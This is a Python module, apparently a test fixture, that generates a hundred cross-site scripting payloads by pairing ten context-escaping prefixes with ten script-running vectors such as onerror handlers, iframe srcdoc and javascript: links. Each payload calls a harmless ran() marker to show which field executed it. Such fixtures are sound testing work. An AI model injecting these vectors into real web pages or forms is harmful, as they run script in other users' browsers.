"""A hundred texts that run a script where a page takes them for markup or follows them as links.

Ten ways out of the place that a text stands in, times ten ways to run something. Each calls
`ran(MARK)`, with MARK replaced by the name of the field that carries it.
"""

__all__ = ["MARK", "PAYLOADS", "carried"]

MARK = "MARK"
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</mark></p></main>",
    "</script>",
    "</style></title>",
    "</textarea></select>",
    "-->",
    "]]>",
    "\u202e\u2066 ",
)
CALLS = (
    "<img src=x onerror=\"ran('MARK')\">",
    "<svg><image href=x onerror=\"ran('MARK')\"></image></svg>",
    "<details open ontoggle=\"ran('MARK')\"><summary>x</summary></details>",
    "<video src=x onerror=\"ran('MARK')\"></video>",
    "<iframe srcdoc=\"<script>parent.ran('MARK')</script>\"></iframe>",
    "<audio src=x onerror=\"ran('MARK')\"></audio>",
    "<style>@keyframes k{}</style><b style='animation:k 1ms' onanimationend=ran('MARK')>x</b>",
    "<math><mi xlink:href=x><img src=x onerror=\"ran('MARK')\"></mi></math>",
    "<IMG SRC=x OnErRoR=&#114;an('MARK')>",
    "javascript:ran('MARK')//",
)
PAYLOADS = tuple(way + call for call in CALLS for way in WAYS_OUT)


def carried(payload: str, field: str) -> str:
    """A payload that tells which field it ran from."""
    return payload.replace(MARK, field)
